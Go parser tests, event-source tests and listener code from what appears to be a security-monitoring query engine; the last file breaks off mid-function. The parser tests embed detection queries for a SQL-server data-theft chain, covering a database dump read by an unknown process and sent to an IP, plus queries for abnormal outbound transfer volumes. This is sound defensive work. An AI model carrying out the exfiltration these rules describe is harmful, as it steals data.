package parser

import (
	"strings"
	"testing"
	"time"

	"saql/internal/ast"
	"saql/internal/event"
	"saql/internal/value"
)

// The four queries from the paper, verbatim (modulo the PDF line wrapping).
const (
	paperQuery1 = `
agentid = xxx // SQL database server (obfuscated)
proc p1["%cmd.exe"] start proc p2["%osql.exe"] as evt1
proc p3["%sqlservr.exe"] write file f1["%backup1.dmp"] as evt2
proc p4["%sbblv.exe"] read file f1 as evt3
proc p4 read || write ip i1[dstip="XXX.129"] as evt4
with evt1 -> evt2 -> evt3 -> evt4
return distinct p1, p2, p3, f1, p4, i1
`
	paperQuery2 = `
proc p write ip i as evt #time(10 min)
state[3] ss {
  avg_amount := avg(evt.amount)
} group by p
alert (ss[0].avg_amount > (ss[0].avg_amount + ss[1].avg_amount + ss[2].avg_amount) / 3) && (ss[0].avg_amount > 10000)
return p, ss[0].avg_amount, ss[1].avg_amount, ss[2].avg_amount
`
	paperQuery3 = `
proc p1["%apache.exe"] start proc p2 as evt #time(10 s)
state ss {
  set_proc := set(p2.exe_name)
} group by p1
invariant[10][offline] {
  a := empty_set // invariant init
  a = a union ss.set_proc // invariant update
}
alert |ss.set_proc diff a| > 0
return p1, ss.set_proc
`
	paperQuery4 = `
agentid = xxx // SQL database server (obfuscated)
proc p["%sqlservr.exe"] read || write ip i as evt #time(10 min)
state ss {
  amt := sum(evt.amount)
} group by i.dstip
cluster(points=all(ss.amt), distance="ed", method="DBSCAN(100000, 5)")
alert cluster.outlier && ss.amt > 1000000
return i.dstip, ss.amt
`
)

func mustParse(t *testing.T, src string) *ast.Query {
	t.Helper()
	q, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse failed: %v\nquery:\n%s", err, src)
	}
	return q
}

func TestPaperQuery1RuleBased(t *testing.T) {
	q := mustParse(t, paperQuery1)

	if len(q.Globals) != 1 || q.Globals[0].Attr != "agentid" || q.Globals[0].Val.Val.Str() != "xxx" {
		t.Errorf("globals = %v", q.Globals)
	}
	if len(q.Patterns) != 4 {
		t.Fatalf("patterns = %d, want 4", len(q.Patterns))
	}

	p0 := q.Patterns[0]
	if p0.Subject.Type != event.EntityProcess || p0.Subject.Var != "p1" {
		t.Errorf("pattern 0 subject = %v", p0.Subject)
	}
	if len(p0.Subject.Constraints) != 1 || p0.Subject.Constraints[0].Val.Val.Str() != "%cmd.exe" {
		t.Errorf("pattern 0 subject constraints = %v", p0.Subject.Constraints)
	}
	if len(p0.Ops) != 1 || p0.Ops[0] != event.OpStart {
		t.Errorf("pattern 0 ops = %v", p0.Ops)
	}
	if p0.Object.Var != "p2" || p0.Alias != "evt1" {
		t.Errorf("pattern 0 object/alias = %v / %q", p0.Object, p0.Alias)
	}

	// Pattern 3: read || write alternation and attribute constraint.
	p3 := q.Patterns[3]
	if len(p3.Ops) != 2 || p3.Ops[0] != event.OpRead || p3.Ops[1] != event.OpWrite {
		t.Errorf("pattern 3 ops = %v", p3.Ops)
	}
	if p3.Object.Type != event.EntityNetConn || p3.Object.Var != "i1" {
		t.Errorf("pattern 3 object = %v", p3.Object)
	}
	c := p3.Object.Constraints[0]
	if c.Attr != "dstip" || c.Val.Val.Str() != "XXX.129" {
		t.Errorf("pattern 3 constraint = %v", c)
	}

	// Shared variable f1 and p4 across patterns.
	if q.Patterns[1].Object.Var != "f1" || q.Patterns[2].Object.Var != "f1" {
		t.Error("f1 should appear in patterns 1 and 2")
	}
	if len(q.Patterns[2].Object.Constraints) != 0 {
		t.Error("re-referenced f1 should carry no new constraints")
	}

	if q.Temporal == nil || len(q.Temporal.Order) != 4 {
		t.Fatalf("temporal = %v", q.Temporal)
	}
	if strings.Join(q.Temporal.Order, ",") != "evt1,evt2,evt3,evt4" {
		t.Errorf("temporal order = %v", q.Temporal.Order)
	}

	if q.Return == nil || !q.Return.Distinct || len(q.Return.Items) != 6 {
		t.Fatalf("return = %v", q.Return)
	}
	if q.IsStateful() {
		t.Error("rule query should not be stateful")
	}
}

func TestPaperQuery2TimeSeries(t *testing.T) {
	q := mustParse(t, paperQuery2)

	if q.Window == nil || q.Window.Length != 10*time.Minute {
		t.Fatalf("window = %v", q.Window)
	}
	if q.Window.EffectiveHop() != 10*time.Minute {
		t.Errorf("hop = %v, want tumbling", q.Window.EffectiveHop())
	}
	if q.State == nil || q.State.History != 3 || q.State.Name != "ss" {
		t.Fatalf("state = %v", q.State)
	}
	if len(q.State.Fields) != 1 || q.State.Fields[0].Name != "avg_amount" {
		t.Errorf("state fields = %v", q.State.Fields)
	}
	call, ok := q.State.Fields[0].Expr.(*ast.CallExpr)
	if !ok || call.Func != "avg" || len(call.Args) != 1 {
		t.Fatalf("state field expr = %v", q.State.Fields[0].Expr)
	}
	fe, ok := call.Args[0].(*ast.FieldExpr)
	if !ok || fe.Field != "amount" {
		t.Errorf("avg arg = %v", call.Args[0])
	}
	if len(q.State.GroupBy) != 1 {
		t.Errorf("group by = %v", q.State.GroupBy)
	}
	if len(q.Alerts) != 1 {
		t.Fatalf("alerts = %d", len(q.Alerts))
	}
	// The alert must contain indexed state accesses ss[0..2].
	var idxSeen [3]bool
	ast.Walk(q.Alerts[0], func(e ast.Expr) {
		if ix, ok := e.(*ast.IndexExpr); ok {
			if id, ok := ix.Base.(*ast.Ident); ok && id.Name == "ss" && ix.Index < 3 {
				idxSeen[ix.Index] = true
			}
		}
	})
	for i, seen := range idxSeen {
		if !seen {
			t.Errorf("alert should reference ss[%d]", i)
		}
	}
	if len(q.Return.Items) != 4 {
		t.Errorf("return items = %d", len(q.Return.Items))
	}
}

func TestPaperQuery3Invariant(t *testing.T) {
	q := mustParse(t, paperQuery3)

	if q.Window == nil || q.Window.Length != 10*time.Second {
		t.Fatalf("window = %v", q.Window)
	}
	inv := q.Invariant
	if inv == nil || inv.TrainWindows != 10 || !inv.Offline {
		t.Fatalf("invariant = %+v", inv)
	}
	if len(inv.Inits) != 1 || inv.Inits[0].Var != "a" {
		t.Errorf("inits = %v", inv.Inits)
	}
	if lit, ok := inv.Inits[0].Expr.(*ast.Literal); !ok || lit.Val.Kind() != value.KindSet {
		t.Errorf("init expr should be empty_set, got %v", inv.Inits[0].Expr)
	}
	if len(inv.Updates) != 1 || inv.Updates[0].Var != "a" {
		t.Errorf("updates = %v", inv.Updates)
	}
	be, ok := inv.Updates[0].Expr.(*ast.BinaryExpr)
	if !ok || be.Op != ast.OpUnion {
		t.Fatalf("update expr = %v", inv.Updates[0].Expr)
	}

	// alert |ss.set_proc diff a| > 0
	if len(q.Alerts) != 1 {
		t.Fatal("want one alert")
	}
	cmp, ok := q.Alerts[0].(*ast.BinaryExpr)
	if !ok || cmp.Op != ast.OpGt {
		t.Fatalf("alert = %v", q.Alerts[0])
	}
	card, ok := cmp.Left.(*ast.CardExpr)
	if !ok {
		t.Fatalf("alert left should be |...| cardinality, got %v", cmp.Left)
	}
	diffE, ok := card.X.(*ast.BinaryExpr)
	if !ok || diffE.Op != ast.OpDiff {
		t.Errorf("cardinality inner = %v", card.X)
	}
}

func TestPaperQuery4Outlier(t *testing.T) {
	q := mustParse(t, paperQuery4)

	cl := q.Cluster
	if cl == nil {
		t.Fatal("cluster spec missing")
	}
	if cl.Distance != "ed" {
		t.Errorf("distance = %q", cl.Distance)
	}
	if cl.Method != "DBSCAN(100000, 5)" {
		t.Errorf("method = %q", cl.Method)
	}
	if fe, ok := cl.Points.(*ast.FieldExpr); !ok || fe.Field != "amt" {
		t.Errorf("points = %v", cl.Points)
	}
	// Alert references cluster.outlier.
	var clusterRef bool
	ast.Walk(q.Alerts[0], func(e ast.Expr) {
		if fe, ok := e.(*ast.FieldExpr); ok && fe.Field == "outlier" {
			if id, ok := fe.Base.(*ast.Ident); ok && id.Name == "cluster" {
				clusterRef = true
			}
		}
	})
	if !clusterRef {
		t.Error("alert should reference cluster.outlier")
	}
	// Group by an attribute expression (i.dstip).
	if len(q.State.GroupBy) != 1 {
		t.Fatalf("group by = %v", q.State.GroupBy)
	}
	if fe, ok := q.State.GroupBy[0].(*ast.FieldExpr); !ok || fe.Field != "dstip" {
		t.Errorf("group by = %v", q.State.GroupBy[0])
	}
}

func TestWindowSpecVariants(t *testing.T) {
	cases := []struct {
		src string
		len time.Duration
		hop time.Duration
	}{
		{"proc p start proc q as e #time(10 s)", 10 * time.Second, 0},
		{"proc p start proc q as e #time(5 min)", 5 * time.Minute, 0},
		{"proc p start proc q as e #time(1 h)", time.Hour, 0},
		{"proc p start proc q as e #time(500 ms)", 500 * time.Millisecond, 0},
		{"proc p start proc q as e #time(10 min, 2 min)", 10 * time.Minute, 2 * time.Minute},
		{"proc p start proc q as e #time(1 day)", 24 * time.Hour, 0},
	}
	for _, c := range cases {
		q := mustParse(t, c.src)
		if q.Window.Length != c.len {
			t.Errorf("%q: length = %v, want %v", c.src, q.Window.Length, c.len)
		}
		if q.Window.Hop != c.hop {
			t.Errorf("%q: hop = %v, want %v", c.src, q.Window.Hop, c.hop)
		}
	}
}

func TestParseErrors(t *testing.T) {
	cases := []string{
		"",                                    // no pattern
		"alert x > 0",                         // no pattern
		"proc p start",                        // missing object entity
		"proc p frobnicate proc q",            // unknown op
		"socket s read file f",                // unknown entity type
		"proc p start proc q #time(0 s)",      // zero window
		"proc p start proc q #time(1 s, 2 s)", // hop > length
		"proc p start proc q #time(10 fortnight)",                                   // bad unit
		"proc p start proc q #space(10 s)",                                          // not time
		"proc p[exe_name ~ \"x\"] start proc q",                                     // bad operator
		"proc p start proc q as e with e",                                           // temporal needs 2+
		"proc p start proc q state ss {}",                                           // empty state block
		"proc p start proc q state[0] ss {a := avg(e.amount)}",                      // bad history
		"proc p start proc q invariant[5][offline] {}",                              // no inits
		"proc p start proc q as e cluster(distance=\"ed\", method=\"DBSCAN(1,2)\")", // no points
		"proc p start proc q as e cluster(points=all(x))",                           // no method
		"proc p start proc q as e alert |x || y| > 0",                               // || inside |...|
		"proc p start proc q as e alert ss[-1].f > 0",                               // negative index
		"proc p start proc q as e return x as 5",                                    // bad alias
		"proc p start proc q as e with e -> ",                                       // dangling arrow
		"proc p start proc q as e as f",                                             // double alias
	}
	for _, src := range cases {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) should fail", src)
		}
	}
}

func TestDuplicateClauses(t *testing.T) {
	dups := []string{
		"proc p start proc q as e #time(1 s) proc a start proc b as f #time(2 s)",
		"proc p start proc q as e with e -> e with e -> e",
		"proc p start proc q as e state s {x := count(e)} state r {y := count(e)}",
		"proc p start proc q as e return p return q",
	}
	for _, src := range dups {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) should reject duplicate clause", src)
		}
	}
}

func TestExprPrecedence(t *testing.T) {
	q := mustParse(t, "proc p start proc q as e alert 1 + 2 * 3 > 6 && true")
	// Expect ((1 + (2*3)) > 6) && true
	and, ok := q.Alerts[0].(*ast.BinaryExpr)
	if !ok || and.Op != ast.OpAnd {
		t.Fatalf("top = %v", q.Alerts[0])
	}
	gt, ok := and.Left.(*ast.BinaryExpr)
	if !ok || gt.Op != ast.OpGt {
		t.Fatalf("left = %v", and.Left)
	}
	add, ok := gt.Left.(*ast.BinaryExpr)
	if !ok || add.Op != ast.OpAdd {
		t.Fatalf("gt.left = %v", gt.Left)
	}
	mul, ok := add.Right.(*ast.BinaryExpr)
	if !ok || mul.Op != ast.OpMul {
		t.Fatalf("add.right = %v", add.Right)
	}
}

func TestParenthesesOverridePrecedence(t *testing.T) {
	q := mustParse(t, "proc p start proc q as e alert (1 + 2) * 3 == 9")
	eq := q.Alerts[0].(*ast.BinaryExpr)
	mul, ok := eq.Left.(*ast.BinaryExpr)
	if !ok || mul.Op != ast.OpMul {
		t.Fatalf("left = %v", eq.Left)
	}
	if add, ok := mul.Left.(*ast.BinaryExpr); !ok || add.Op != ast.OpAdd {
		t.Fatalf("mul.left = %v", mul.Left)
	}
}

func TestUnaryOperators(t *testing.T) {
	q := mustParse(t, "proc p start proc q as e alert !cluster.outlier || -ss.amt < 0")
	or := q.Alerts[0].(*ast.BinaryExpr)
	if not, ok := or.Left.(*ast.UnaryExpr); !ok || not.Op != '!' {
		t.Fatalf("left = %v", or.Left)
	}
	lt := or.Right.(*ast.BinaryExpr)
	if neg, ok := lt.Left.(*ast.UnaryExpr); !ok || neg.Op != '-' {
		t.Fatalf("lt.left = %v", lt.Left)
	}
}

func TestInOperator(t *testing.T) {
	q := mustParse(t, `proc p start proc q as e alert "cmd.exe" in ss.procs`)
	in, ok := q.Alerts[0].(*ast.BinaryExpr)
	if !ok || in.Op != ast.OpIn {
		t.Fatalf("alert = %v", q.Alerts[0])
	}
}

func TestAnonymousEntities(t *testing.T) {
	q := mustParse(t, `proc["%cmd.exe"] start proc as e1`)
	if q.Patterns[0].Subject.Var != "" || q.Patterns[0].Object.Var != "" {
		t.Errorf("anonymous entities should have empty vars: %v", q.Patterns[0])
	}
	if q.Patterns[0].Alias != "e1" {
		t.Errorf("alias = %q", q.Patterns[0].Alias)
	}
}

func TestMultipleConstraints(t *testing.T) {
	q := mustParse(t, `proc p[exe_name = "%x.exe", pid > 100, user != "root"] read file f`)
	cs := q.Patterns[0].Subject.Constraints
	if len(cs) != 3 {
		t.Fatalf("constraints = %d", len(cs))
	}
	if cs[1].Attr != "pid" || cs[1].Op != ast.CmpGt {
		t.Errorf("constraint 1 = %v", cs[1])
	}
	if cs[2].Op != ast.CmpNe {
		t.Errorf("constraint 2 = %v", cs[2])
	}
}

func TestReturnAliases(t *testing.T) {
	q := mustParse(t, "proc p write ip i as e #time(1 min) state ss {amt := sum(e.amount)} group by p return ss.amt as total, p as process")
	if q.Return.Items[0].Alias != "total" || q.Return.Items[1].Alias != "process" {
		t.Errorf("aliases = %v", q.Return.Items)
	}
}

func TestMultipleAlerts(t *testing.T) {
	q := mustParse(t, `proc p write ip i as e #time(1 min)
state ss {amt := sum(e.amount)} group by p
alert ss.amt > 100
alert ss.amt > 1000`)
	if len(q.Alerts) != 2 {
		t.Errorf("alerts = %d, want 2", len(q.Alerts))
	}
}

func TestQueryStringRoundTrip(t *testing.T) {
	// The normalised String() of each paper query must itself re-parse.
	for i, src := range []string{paperQuery1, paperQuery2, paperQuery3, paperQuery4} {
		q := mustParse(t, src)
		q2, err := Parse(q.String())
		if err != nil {
			t.Errorf("query %d: reparse of String() failed: %v\n%s", i+1, err, q.String())
			continue
		}
		if len(q2.Patterns) != len(q.Patterns) || (q2.State == nil) != (q.State == nil) {
			t.Errorf("query %d: round-trip structure mismatch", i+1)
		}
	}
}

func TestOnlineInvariant(t *testing.T) {
	q := mustParse(t, `proc p start proc q as e #time(10 s)
state ss {s := set(q.exe_name)} group by p
invariant[5][online] { a := empty_set a = a union ss.s }
alert |ss.s diff a| > 0`)
	if q.Invariant.Offline {
		t.Error("invariant should be online")
	}
	if q.Invariant.TrainWindows != 5 {
		t.Errorf("train windows = %d", q.Invariant.TrainWindows)
	}
}

func TestInvariantDefaultMode(t *testing.T) {
	q := mustParse(t, `proc p start proc q as e #time(10 s)
state ss {s := set(q.exe_name)} group by p
invariant[5] { a := empty_set a = a union ss.s }
alert |ss.s diff a| > 0`)
	if !q.Invariant.Offline {
		t.Error("invariant should default to offline")
	}
}
