package source

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"saql/internal/event"
)

// sink is a Submitter recording every batch.
type sink struct {
	mu      sync.Mutex
	batches [][]*event.Event
}

func (s *sink) SubmitBatch(evs []*event.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	cp := make([]*event.Event, len(evs))
	copy(cp, evs)
	s.batches = append(s.batches, cp)
	return nil
}

func (s *sink) events() []*event.Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []*event.Event
	for _, b := range s.batches {
		out = append(out, b...)
	}
	return out
}

// ndLine renders one native NDJSON event line with the given Unix-seconds
// timestamp.
func ndLine(ts float64, exe string, pid int, path string) string {
	return fmt.Sprintf(`{"ts":%g,"agent":"h1","subject":{"exe":%q,"pid":%d},"op":"write","object":{"type":"file","path":%q}}`,
		ts, exe, pid, path)
}

func TestReaderSourceBatchingAndOrder(t *testing.T) {
	// 5 events, timestamps out of order within the stream.
	input := strings.Join([]string{
		ndLine(10, "a", 1, "/f1"),
		ndLine(12, "a", 1, "/f2"),
		ndLine(11, "a", 1, "/f3"), // out of order
		"not json at all",         // decode error
		ndLine(13, "a", 1, "/f4"),
		ndLine(14, "a", 1, "/f5"),
	}, "\n")

	var decodeErrs []error
	src, err := FromReader(strings.NewReader(input), Config{
		Format:    "ndjson",
		BatchSize: 3,
		OnError:   func(e error) { decodeErrs = append(decodeErrs, e) },
	})
	if err != nil {
		t.Fatal(err)
	}
	var dst sink
	if err := src.Run(context.Background(), &dst); err != nil {
		t.Fatalf("Run: %v", err)
	}

	evs := dst.events()
	if len(evs) != 5 {
		t.Fatalf("submitted %d events, want 5", len(evs))
	}
	for i := 1; i < len(evs); i++ {
		if evs[i].Time.Before(evs[i-1].Time) {
			t.Fatalf("events out of order after batching: %v then %v", evs[i-1].Time, evs[i].Time)
		}
	}
	if len(dst.batches) != 2 || len(dst.batches[0]) != 3 || len(dst.batches[1]) != 2 {
		t.Fatalf("batch shapes = %v", batchSizes(dst.batches))
	}

	st := src.Stats()
	if st.Lines != 6 || st.Events != 5 || st.DecodeErrors != 1 || st.Batches != 2 {
		t.Fatalf("stats = %+v", st)
	}
	// [10,12,11] sorts to [10,11,12]: two events end up in new positions.
	if st.Reordered != 2 {
		t.Fatalf("reordered = %d, want 2", st.Reordered)
	}
	if len(decodeErrs) != 1 {
		t.Fatalf("OnError saw %d errors, want 1", len(decodeErrs))
	}
	if st.Dropped != 0 || st.Late != 0 {
		t.Fatalf("unexpected late/dropped: %+v", st)
	}
}

func TestStrictOrderDropsCrossBatchStragglers(t *testing.T) {
	// Batch 1 submits up to t=20; the t=15 event in batch 2 is beyond
	// repair. With StrictOrder it is dropped; without it is submitted late.
	lines := strings.Join([]string{
		ndLine(10, "a", 1, "/f1"),
		ndLine(20, "a", 1, "/f2"),
		ndLine(15, "a", 1, "/f3"), // straggler, lands in batch 2
		ndLine(25, "a", 1, "/f4"),
	}, "\n")

	for _, strict := range []bool{true, false} {
		src, err := FromReader(strings.NewReader(lines), Config{
			Format: "ndjson", BatchSize: 2, StrictOrder: strict,
		})
		if err != nil {
			t.Fatal(err)
		}
		var dst sink
		if err := src.Run(context.Background(), &dst); err != nil {
			t.Fatal(err)
		}
		st := src.Stats()
		if strict {
			if got := len(dst.events()); got != 3 {
				t.Errorf("strict: submitted %d events, want 3", got)
			}
			if st.Dropped != 1 || st.Late != 0 {
				t.Errorf("strict stats = %+v", st)
			}
		} else {
			if got := len(dst.events()); got != 4 {
				t.Errorf("lenient: submitted %d events, want 4", got)
			}
			if st.Dropped != 0 || st.Late != 1 {
				t.Errorf("lenient stats = %+v", st)
			}
		}
	}
}

func TestFileSourceFollow(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "events.ndjson")
	if err := os.WriteFile(path, []byte(ndLine(1, "a", 1, "/f1")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	src, err := FromFile(path, Config{Format: "ndjson", Follow: true, BatchSize: 64})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var dst sink
	done := make(chan error, 1)
	go func() { done <- src.Run(ctx, &dst) }()

	waitFor(t, func() bool { return len(dst.events()) == 1 }, "initial event")

	// Append one whole line plus a partial line: the partial must be held
	// back until its newline arrives.
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	full := ndLine(2, "a", 1, "/f2") + "\n"
	partial := ndLine(3, "a", 1, "/f3")
	if _, err := f.WriteString(full + partial[:20]); err != nil {
		t.Fatal(err)
	}
	waitFor(t, func() bool { return len(dst.events()) == 2 }, "appended event")
	time.Sleep(3 * followPollInterval)
	if got := len(dst.events()); got != 2 {
		t.Fatalf("partial line leaked: %d events", got)
	}
	if _, err := f.WriteString(partial[20:] + "\n"); err != nil {
		t.Fatal(err)
	}
	f.Close()
	waitFor(t, func() bool { return len(dst.events()) == 3 }, "completed partial line")

	cancel()
	if err := <-done; err != context.Canceled {
		t.Fatalf("Run = %v, want context.Canceled", err)
	}
	if st := src.Stats(); st.Lines != 3 || st.Events != 3 || st.DecodeErrors != 0 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestFileSourceNoFollowEndsAtEOF(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "events.ndjson")
	content := ndLine(1, "a", 1, "/f1") + "\n" + ndLine(2, "b", 2, "/f2") + "\n"
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	src, err := FromFile(path, Config{Format: "ndjson"})
	if err != nil {
		t.Fatal(err)
	}
	var dst sink
	if err := src.Run(context.Background(), &dst); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if got := len(dst.events()); got != 2 {
		t.Fatalf("events = %d, want 2", got)
	}
	// A source can only run once.
	if err := src.Run(context.Background(), &dst); err == nil {
		t.Fatal("second Run should fail")
	}
}

func TestTCPSourceMergesConnections(t *testing.T) {
	src, err := Listen("127.0.0.1:0", Config{Format: "ndjson", BatchSize: 4, FlushInterval: 20 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var dst sink
	done := make(chan error, 1)
	go func() { done <- src.Run(ctx, &dst) }()

	send := func(lines ...string) {
		conn, err := net.Dial("tcp", src.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Close()
		for _, l := range lines {
			if _, err := conn.Write([]byte(l + "\n")); err != nil {
				t.Fatal(err)
			}
		}
	}
	send(ndLine(1, "a", 1, "/f1"), ndLine(2, "a", 1, "/f2"))
	send(ndLine(3, "b", 2, "/f3"))

	waitFor(t, func() bool { return len(dst.events()) == 3 }, "tcp events")
	cancel()
	if err := <-done; err != context.Canceled {
		t.Fatalf("Run = %v, want context.Canceled", err)
	}
	if st := src.Stats(); st.Events != 3 || st.Lines != 3 {
		t.Fatalf("stats = %+v", st)
	}
}

// TestSubmittedBatchesAreImmutable pins the ownership contract: the engine
// queues submitted slices and consumes them asynchronously, so the batcher
// must never write into a batch it has already handed over.
func TestSubmittedBatchesAreImmutable(t *testing.T) {
	var lines []string
	for i := 0; i < 40; i++ {
		lines = append(lines, ndLine(float64(i+1), "a", 1, fmt.Sprintf("/f%02d", i)))
	}
	src, err := FromReader(strings.NewReader(strings.Join(lines, "\n")), Config{Format: "ndjson", BatchSize: 4})
	if err != nil {
		t.Fatal(err)
	}
	// This sink retains the submitted slices verbatim (no copy), exactly
	// like the runtime's ingest queue does.
	var retained [][]*event.Event
	hold := submitFn(func(evs []*event.Event) error {
		retained = append(retained, evs)
		return nil
	})
	if err := src.Run(context.Background(), hold); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, batch := range retained {
		for _, ev := range batch {
			path := ev.Object.Path
			if seen[path] {
				t.Fatalf("event %s appears in two batches: a submitted slice was overwritten", path)
			}
			seen[path] = true
		}
	}
	if len(seen) != 40 {
		t.Fatalf("retained %d distinct events, want 40", len(seen))
	}
}

type submitFn func([]*event.Event) error

func (f submitFn) SubmitBatch(evs []*event.Event) error { return f(evs) }

// TestOverlongLineIsSkippedNotFatal pins the decode-error contract for
// lines beyond maxLineBytes.
func TestOverlongLineIsSkippedNotFatal(t *testing.T) {
	long := strings.Repeat("x", maxLineBytes+1024)
	input := ndLine(1, "a", 1, "/before") + "\n" + long + "\n" + ndLine(2, "a", 1, "/after") + "\n"
	src, err := FromReader(strings.NewReader(input), Config{Format: "ndjson"})
	if err != nil {
		t.Fatal(err)
	}
	var dst sink
	if err := src.Run(context.Background(), &dst); err != nil {
		t.Fatalf("Run: %v (an over-long line must not stop the source)", err)
	}
	evs := dst.events()
	if len(evs) != 2 || evs[0].Object.Path != "/before" || evs[1].Object.Path != "/after" {
		t.Fatalf("events around the over-long line = %v", evs)
	}
	st := src.Stats()
	if st.DecodeErrors != 1 {
		t.Fatalf("decode errors = %d, want 1", st.DecodeErrors)
	}
}

// TestTCPSourceCancelWithIdleConnection pins shutdown behaviour: an idle
// sender parked in conn.Read must not hang Run after cancellation.
func TestTCPSourceCancelWithIdleConnection(t *testing.T) {
	src, err := Listen("127.0.0.1:0", Config{Format: "ndjson"})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	var dst sink
	done := make(chan error, 1)
	go func() { done <- src.Run(ctx, &dst) }()

	// Connect, send one complete line, then go idle without closing.
	conn, err := net.Dial("tcp", src.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write([]byte(ndLine(1, "a", 1, "/f1") + "\n")); err != nil {
		t.Fatal(err)
	}
	waitFor(t, func() bool { return len(dst.events()) == 1 }, "event before cancel")

	cancel()
	select {
	case err := <-done:
		if err != context.Canceled {
			t.Fatalf("Run = %v, want context.Canceled", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Run hung after cancel with an idle connection open")
	}
}

func TestSourceRejectsUnknownFormat(t *testing.T) {
	if _, err := FromReader(strings.NewReader(""), Config{Format: "syslog"}); err == nil {
		t.Fatal("unknown format should fail at construction")
	}
	if _, err := Listen("127.0.0.1:0", Config{Format: "nope"}); err == nil {
		t.Fatal("unknown format should fail before binding")
	}
}

func batchSizes(batches [][]*event.Event) []int {
	out := make([]int, len(batches))
	for i, b := range batches {
		out[i] = len(b)
	}
	return out
}

func waitFor(t *testing.T, cond func() bool, what string) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}
