package source

import (
	"context"
	"errors"
	"net"
	"sync"
	"time"
)

// Listen builds a source that accepts TCP connections on addr and decodes
// each connection as an independent stream of the configured format (every
// connection gets its own decoder, since formats like auditd are stateful
// per stream). Events from all connections merge into one time-ordered
// batcher. The listener is bound immediately — Addr reports the bound
// address, so addr may use port 0 — and Run serves until ctx is cancelled.
func Listen(addr string, cfg Config) (*Source, error) {
	cfg = cfg.withDefaults()
	s := &Source{cfg: cfg}
	// Validate the format before binding, not on first connection.
	if _, err := s.newDecoder(); err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	s.desc = "tcp:" + ln.Addr().String()
	s.addr = ln.Addr()
	s.run = func(ctx context.Context, b *batcher) error {
		return s.serve(ctx, ln, b)
	}
	return s, nil
}

// Addr reports the bound listener address of a TCP source (nil otherwise).
func (s *Source) Addr() net.Addr { return s.addr }

func (s *Source) serve(ctx context.Context, ln net.Listener, b *batcher) error {
	var (
		conns    sync.WaitGroup
		firstErr error
		errOnce  sync.Once
	)
	fail := func(err error) { errOnce.Do(func() { firstErr = err }) }

	// Track open connections so shutdown can unblock pumps parked in
	// conn.Read: closing only the listener would leave an idle sender
	// hanging Run forever.
	var (
		connMu  sync.Mutex
		open    = map[net.Conn]struct{}{}
		closing bool
	)
	track := func(c net.Conn) bool {
		connMu.Lock()
		defer connMu.Unlock()
		if closing {
			c.Close()
			return false
		}
		open[c] = struct{}{}
		return true
	}
	untrack := func(c net.Conn) {
		connMu.Lock()
		delete(open, c)
		connMu.Unlock()
	}

	// Close the listener and every open connection on cancellation.
	stop := make(chan struct{})
	go func() {
		select {
		case <-ctx.Done():
		case <-stop:
		}
		ln.Close()
		connMu.Lock()
		closing = true
		for c := range open {
			c.Close()
		}
		connMu.Unlock()
	}()

	// Periodically flush partial batches so low-rate senders see bounded
	// latency.
	flusher := time.NewTicker(s.cfg.FlushInterval) //saql:wallclock batch-flush latency bound, not stream time
	defer flusher.Stop()
	flushDone := make(chan struct{})
	go func() {
		defer close(flushDone)
		for {
			select {
			case <-ctx.Done():
				return
			case <-stop: // serve is exiting on an accept error, not ctx
				return
			case <-flusher.C:
				if err := b.flush(); err != nil {
					fail(err)
				}
			}
		}
	}()

	for {
		conn, err := ln.Accept()
		if err != nil {
			if ctx.Err() != nil || errors.Is(err, net.ErrClosed) {
				break
			}
			fail(err)
			break
		}
		dec, err := s.newDecoder()
		if err != nil {
			conn.Close()
			fail(err)
			break
		}
		if !track(conn) {
			break // already shutting down
		}
		conns.Add(1)
		go func() {
			defer conns.Done()
			defer untrack(conn)
			defer conn.Close()
			err := pump(ctx, conn, dec, b, &s.ctr, s.cfg.OnError)
			if err != nil && ctx.Err() == nil && !errors.Is(err, net.ErrClosed) {
				fail(err)
				return
			}
			if err := drain(dec, b); err != nil {
				fail(err)
			}
		}()
	}
	close(stop)
	conns.Wait()
	<-flushDone
	if firstErr != nil {
		return firstErr
	}
	return ctx.Err()
}
