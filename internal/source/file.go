package source

import (
	"context"
	"io"
	"os"
	"time"

	"saql/internal/codec"
)

// followPollInterval is how often a follow-mode source re-checks the file
// for appended data after reaching EOF.
const followPollInterval = 100 * time.Millisecond

// FromFile builds a source over a log file. Without Config.Follow, Run ends
// at EOF; with it, Run keeps polling for appended data (tail -f) until ctx
// is cancelled. The path "-" reads standard input.
func FromFile(path string, cfg Config) (*Source, error) {
	cfg = cfg.withDefaults()
	if path == "-" {
		return FromReader(os.Stdin, cfg)
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	s := &Source{cfg: cfg, desc: "file:" + path}
	dec, err := s.newDecoder()
	if err != nil {
		f.Close()
		return nil, err
	}
	s.run = func(ctx context.Context, b *batcher) error {
		defer f.Close()
		if !cfg.Follow {
